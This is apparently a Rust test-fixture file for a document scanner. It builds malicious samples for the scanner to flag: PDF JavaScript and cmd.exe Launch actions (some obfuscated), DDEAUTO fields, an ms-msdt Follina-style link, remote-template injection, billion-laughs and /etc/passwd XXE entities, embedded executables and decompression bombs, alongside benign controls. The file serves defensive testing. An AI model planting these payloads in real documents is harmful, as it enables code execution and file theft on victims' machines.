//! Documents that do something, hide something, or cannot be read.

use std::fs::File;
use std::io::{self, BufWriter, Write};

use strongroom::evidence::Reason::{self, ActiveContent, Corrupt, Encrypted, TypeMismatch};

use crate::case::{Case, holding};
use crate::make::documents::{
    EXCEL, ONE_PAGE, POWERPOINT, WORD, compound, open_document, pdf, pdf_of, relation, stream, word_block,
    write_pdf, zlib, zlib_blanks,
};
use crate::make::{program, replaced, zip};

const GROUP: &str = "Documents";

pub fn cases() -> Vec<Case> {
    [active_pdfs(), broken_pdfs(), office(), open_documents(), old(), good()].into_iter().flatten().collect()
}

fn bad(what: impl Into<String>, name: &str, reason: Reason, bytes: Vec<u8>) -> Case {
    Case::bad(GROUP, what, name, reason, holding(bytes))
}

/// What happens in the catalogue, or in an object of any kind.
fn active_pdfs() -> Vec<Case> {
    let actions = [
        ("JavaScript", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        ("JavaScript by names in digits", "/OpenAction << /S /J#61vaScript /#4a#53 (app.alert(1)) >>"),
        ("JavaScript by a list of names", "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"),
        ("JavaScript at a page's turn", "/AA << /WC << /S /JavaScript /JS (1) >> >>"),
        ("a program", "/OpenAction << /S /Launch /F (cmd.exe) >>"),
        ("a program by names in digits", "/OpenAction << /S /L#61unc#68 /F (cmd.exe) >>"),
        ("an attachment", "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>"),
        ("a form of XML", "/AcroForm << /XFA [(template) 4 0 R] >>"),
        ("a form that sends", "/AcroForm << /Fields [<< /A << /S /SubmitForm /F (http://x/) >> >>] >>"),
        ("a form that reads", "/OpenAction << /S /ImportData /F (a.fdf) >>"),
        ("a link into an attachment", "/OpenAction << /S /GoToE /D [0 /Fit] /T << /R /C >> >>"),
        ("embedded media", "/Perms << /A << /Subtype /RichMedia >> >>"),
    ];
    let mut cases: Vec<Case> =
        actions.iter().map(|(what, has)| bad(*what, "essay.pdf", ActiveContent, pdf(has, &[]))).collect();
    let object = |what: &str, object: &[u8]| bad(what, "essay.pdf", ActiveContent, pdf("", &[object]));
    let objects = b"9 0 << /S /JavaScript /JS (1) >>";
    let holder =
        |filter: &str, content: &[u8]| stream(&format!("/Type /ObjStm /N 1 /First 4 {filter}"), content);
    let packed = zlib(objects);
    let digits: Vec<u8> =
        packed.iter().flat_map(|byte| format!("{byte:02x}").into_bytes()).chain(*b">").collect();
    let twice = holder("/Filter [/ASCIIHexDecode /FlateDecode]", &digits);
    cases.extend([
        object("JavaScript in an object", b"<< /S /JavaScript /JS (1) >>"),
        object("a file in an object", &stream("/Type /EmbeddedFile", &program())),
        object("a file that is attached", b"<< /Type /Annot /Subtype /FileAttachment /FS 5 0 R >>"),
        object("a file by its key alone", b"<< /F (a.exe) /EF << /F 5 0 R >> >>"),
        object("a script that runs with a film", b"<< /S /Rendition /OP 0 /JS (1) >>"),
        object("JavaScript among packed objects", &holder("/Filter /FlateDecode", &packed)),
        object("JavaScript among objects that are not packed", &holder("", objects)),
        object("JavaScript among objects, packed twice", &twice),
        object("JavaScript in a damaged object", b"<< /S /JavaScript /JS (1) "),
        bad("JavaScript in a PDF in a zip", "work.zip", ActiveContent, {
            zip::files(&[("a.pdf", &pdf("/OpenAction << /S /JavaScript /JS (1) >>", &[]))])
        }),
        Case::bad(GROUP, "JavaScript among a million objects", "essay.pdf", ActiveContent, |file| {
            write_million(file, &[b"<< /S /JavaScript /JS (1) >>"])
        }),
    ]);
    cases
}

/// Writes a PDF of these objects and a million others.
fn write_million(file: &mut File, more: &[&[u8]]) -> io::Result<()> {
    let others = std::iter::repeat_n(&b"7"[..], 1_000_000);
    let mut writer = BufWriter::new(file);
    write_pdf(&mut writer, ONE_PAGE.into_iter().chain(more.iter().copied()).chain(others))?;
    writer.flush()
}

fn broken_pdfs() -> Vec<Case> {
    let whole = pdf("", &[]);
    let blanks = zlib_blanks(256);
    vec![
        bad("no page", "essay.pdf", Corrupt, {
            pdf_of(
                [&b"<< /Type /Catalog /Pages 2 0 R >>"[..], b"<< /Type /Pages /Kids [] /Count 0 >>"]
                    .into_iter(),
            )
        }),
        bad("no object", "essay.pdf", Corrupt, b"%PDF-1.7\n%%EOF\n".to_vec()),
        bad("no end", "essay.pdf", Corrupt, whole[..whole.len() - 10].to_vec()),
        bad("cut in half", "essay.pdf", Corrupt, whole[..whole.len() / 2].to_vec()),
        bad("only its first line", "essay.pdf", Corrupt, b"%PDF-1.7\n".to_vec()),
        bad("pages in a circle", "essay.pdf", Corrupt, {
            pdf_of(
                [
                    &b"<< /Type /Catalog /Pages 2 0 R >>"[..],
                    b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
                ]
                .into_iter(),
            )
        }),
        bad("packed objects that fill memory", "essay.pdf", ActiveContent, {
            pdf("", &[&stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &blanks)])
        }),
        bad("many packed objects that together fill memory", "essay.pdf", ActiveContent, {
            let some = stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &zlib_blanks(20));
            pdf("", &[&some[..]; 10])
        }),
        bad("packed objects that cannot be unpacked", "essay.pdf", Corrupt, {
            pdf("", &[&stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", b"no deflate")])
        }),
    ]
}

/// `<!DOCTYPE` before a root.
fn with_entities(root: &str) -> Vec<u8> {
    let laughs: String =
        (1..10).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    format!("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY l0 \"lol\">{laughs}]><{root}>&l9;</{root}>")
        .into_bytes()
}

fn with_outside_entity(root: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><{root}>&b;</{root}>"
    )
    .into_bytes()
}

fn office() -> Vec<Case> {
    let part = |what: &str, name: &str, bytes: &[u8]| {
        bad(what, "essay.docx", ActiveContent, WORD.with(&[(name, bytes)]))
    };
    let link = |what: &str, kind: &str, target: &str| {
        part(what, "word/_rels/document.xml.rels", &relation(kind, target))
    };
    let field = |text: &str| {
        format!("<w:document><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{text}</w:p></w:document>")
            .into_bytes()
    };
    let pieces = field(
        "<w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd</w:instrText></w:r>",
    );
    let dde_link = b"<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>";
    let wide: Vec<u8> = [0xfeff_u16]
        .into_iter()
        .chain(String::from_utf8(with_outside_entity("w:document")).unwrap().encode_utf16())
        .flat_map(u16::to_le_bytes)
        .collect();
    let late = [
        &b"<?xml version=\"1.0\"?><!--"[..],
        &vec![b' '; 100_000],
        b"-->",
        &with_entities("styleSheet")[21..],
    ]
    .concat();
    vec![
        part(
            "a template from elsewhere",
            "word/_rels/settings.xml.rels",
            &relation("attachedTemplate", "https://x.example/a.dotm"),
        ),
        link("an object from elsewhere", "oleObject", "https://x.example/a.html!"),
        link("an object from a server", "oleObject", "\\\\x.example\\a.doc"),
        link("a frame from elsewhere", "frame", "http://x.example/"),
        link("a document from elsewhere", "subDocument", "http://x.example/a.docx"),
        link("a program of Windows", "oleObject", "ms-msdt:/id PCWDiagnostic"),
        part("DDE", "word/document.xml", &field("<w:r><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:r>")),
        part("DDE in pieces", "word/document.xml", &pieces),
        part(
            "DDE in a simple field",
            "word/header1.xml",
            b"<w:hdr><w:fldSimple w:instr=\" DDE x y \"/></w:hdr>",
        ),
        bad("DDE of a workbook", "data.xlsx", ActiveContent, {
            EXCEL.with(&[("xl/externalLinks/externalLink1.xml", dde_link)])
        }),
        part("entities without end", "word/document.xml", &with_entities("w:document")),
        part(
            "entities without end, in relations",
            "word/_rels/document.xml.rels",
            &with_entities("Relationships"),
        ),
        part("entities without end, in the types", "[Content_Types].xml", &with_entities("Types")),
        part("an entity of a file", "word/document.xml", &with_outside_entity("w:document")),
        bad("an entity of a file, in wide letters", "data.xlsx", ActiveContent, {
            EXCEL.with(&[("xl/sharedStrings.xml", &wide)])
        }),
        bad("entities without end, in a workbook", "data.xlsx", ActiveContent, {
            EXCEL.with(&[("xl/worksheets/sheet1.xml", &with_entities("worksheet"))])
        }),
        bad("an entity of a file, in a workbook", "data.xlsx", ActiveContent, {
            EXCEL.with(&[("xl/workbook.xml", &with_outside_entity("workbook"))])
        }),
        bad("entities behind a long comment", "data.xlsx", ActiveContent, {
            EXCEL.with(&[("xl/styles.xml", &late)])
        }),
        bad("entities without end, in a presentation", "talk.pptx", ActiveContent, {
            POWERPOINT.with(&[("ppt/slides/slide1.xml", &with_entities("p:sld"))])
        }),
        part("entities without end, in properties", "docProps/core.xml", &with_entities("cp:coreProperties")),
        bad("no main part", "essay.docx", TypeMismatch, {
            let types = WORD.parts(&[])[0].1.clone();
            WORD.with(&[(
                "[Content_Types].xml",
                &replaced(&types, b"/word/document.xml", b"/word/absentee.xml"),
            )])
        }),
        bad("no types", "essay.docx", TypeMismatch, WORD.with(&[("[Content_Types].xml", b"<Types/>")])),
        bad("markup that nests too deep", "essay.docx", Corrupt, {
            let deep = [b"<w:p>".repeat(100_000), b"</w:p>".repeat(100_000)].concat();
            WORD.with(&[("word/document.xml", &deep)])
        }),
        bad(
            "a program in it",
            "essay.docx",
            Reason::TypeMismatch,
            WORD.with(&[("word/media/image1.png", &program())]),
        ),
        bad("a program as an object", "essay.docx", ActiveContent, {
            let package = [&[0; 4][..], b"\x02\0game.exe\0C:\\game.exe\0", &program()].concat();
            WORD.with(&[("word/embeddings/oleObject1.bin", &compound(&[("/\u{1}Ole10Native", &package)]))])
        }),
        bad("documents in documents", "essay.docx", Reason::ArchiveUnsafe, {
            let embed = |inner: &[u8]| WORD.with(&[("word/embeddings/a.docx", inner)]);
            embed(&embed(&embed(&WORD.with(&[]))))
        }),
        bad("a locked document in it", "essay.docx", Encrypted, {
            let locked = compound(&[("/EncryptedPackage", b"1"), ("/EncryptionInfo", b"1")]);
            WORD.with(&[("word/embeddings/a.docx", &locked)])
        }),
    ]
}

fn open_documents() -> Vec<Case> {
    vec![
        bad("entities without end, in LibreOffice", "essay.odt", ActiveContent, {
            open_document("text", &[("content.xml", &with_entities("office:document-content"))], "")
        }),
        bad("an entity of a file, in LibreOffice", "essay.odt", ActiveContent, {
            open_document("text", &[("styles.xml", &with_outside_entity("office:document-styles"))], "")
        }),
        bad("entities in the list of LibreOffice", "essay.odt", ActiveContent, {
            open_document("text", &[("META-INF/manifest.xml", &with_entities("manifest:manifest"))], "")
        }),
        bad("a program in LibreOffice", "essay.odt", TypeMismatch, {
            open_document("text", &[("Pictures/1.png", &program())], "")
        }),
    ]
}

fn old() -> Vec<Case> {
    let document = |more: &[(&str, &[u8])]| {
        let block = word_block(0);
        let mut entries: Vec<(&str, &[u8])> = vec![("/WordDocument", &block)];
        entries.extend(more);
        compound(&entries)
    };
    let package = [&[0; 4][..], b"\x02\0game.exe\0C:\\game.exe\0", &program()].concat();
    let whole = document(&[]);
    let digits: String = program().iter().map(|byte| format!("{byte:02x}")).collect();
    vec![
        bad("a program in an old document", "essay.doc", ActiveContent, {
            document(&[
                ("/ObjectPool/", b""),
                ("/ObjectPool/_1/", b""),
                ("/ObjectPool/_1/\u{1}Ole10Native", &package),
            ])
        }),
        bad("an old document, cut short", "essay.doc", Corrupt, whole[..600].to_vec()),
        bad("a program in an RTF", "essay.rtf", ActiveContent, {
            format!("{{\\rtf1 {{\\object\\objemb{{\\*\\objdata {digits}}}}}}}").into_bytes()
        }),
        bad(
            "DDE in an RTF",
            "essay.rtf",
            ActiveContent,
            b"{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd}}}".to_vec(),
        ),
        bad("a template from elsewhere, in an RTF", "essay.rtf", ActiveContent, {
            b"{\\rtf1 {\\*\\template http://x.example/a.dotm}}".to_vec()
        }),
        bad("an object that loads by itself, in an RTF", "essay.rtf", ActiveContent, {
            b"{\\rtf1 {\\object\\objautlink\\objupdate}}".to_vec()
        }),
    ]
}

/// What documents do that harms nobody.
fn good() -> Vec<Case> {
    let good = |what: &str, name: &str, bytes: Vec<u8>| Case::good(GROUP, what, name, holding(bytes));
    let part = |what: &str, name: &str, bytes: &[u8]| good(what, "essay.docx", WORD.with(&[(name, bytes)]));
    let relations = "word/_rels/document.xml.rels";
    let settings = "word/_rels/settings.xml.rels";
    let drawn = br#"<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>"#;
    let menu = br#"<?xml version="1.0"?><!DOCTYPE menu:menubar PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "menubar.dtd"><menu:menubar/>"#;
    let wide: Vec<u8> = "\u{feff}<?xml version=\"1.0\" encoding=\"utf-16\"?><a/>"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    vec![
        // Drawings of engineers have as many; they cost no more than their bytes.
        Case::good(GROUP, "a million objects", "plan.pdf", |file| write_million(file, &[])),
        good("opens at its first page", "essay.pdf", pdf("/OpenAction [3 0 R /Fit]", &[])),
        good("a form to fill in", "essay.pdf", pdf("/AcroForm << /Fields [] >>", &[])),
        good("links to the web", "essay.pdf", pdf("", &[b"<< /S /URI /URI (https://example.org/) >>"])),
        good(
            "words about JavaScript",
            "essay.pdf",
            pdf("", &[b"<< /Title (HTML/JavaScript and /Launch) >>"]),
        ),
        part("a link to the web", relations, &relation("hyperlink", "https://example.org/")),
        part("a picture of the web", relations, &relation("image", "https://example.org/a.png")),
        part(
            "a template of the school's",
            settings,
            &relation("attachedTemplate", "file:///\\\\school\\t.dotx"),
        ),
        part("page numbers", "word/footer1.xml", b"<w:ftr><w:instrText> PAGE </w:instrText></w:ftr>"),
        part("a drawing with a type of its own", "word/media/image1.svg", drawn),
        part("a part in wide letters", "customXml/item1.xml", &wide),
        part("settings of a printer", "word/printerSettings1.bin", b"\0\x01"),
        part(
            "words about DTDs",
            "word/document.xml",
            b"<w:document><w:t>Write &lt;!DOCTYPE html&gt; first.</w:t></w:document>",
        ),
        good(
            "a workbook in a document",
            "essay.docx",
            WORD.with(&[("word/embeddings/a.xlsx", &EXCEL.with(&[]))]),
        ),
        good(
            "a menu of OpenOffice",
            "essay.odt",
            open_document("text", &[("Configurations2/menubar/menubar.xml", menu)], ""),
        ),
        good("a letter in an old document", "essay.doc", {
            let package = [&[0; 4][..], b"\x02\0letter.txt\0C:\\letter.txt\0Dear all"].concat();
            compound(&[
                ("/WordDocument", &word_block(0)),
                ("/ObjectPool/", b""),
                ("/ObjectPool/\u{1}Ole10Native", &package),
            ])
        }),
    ]
}
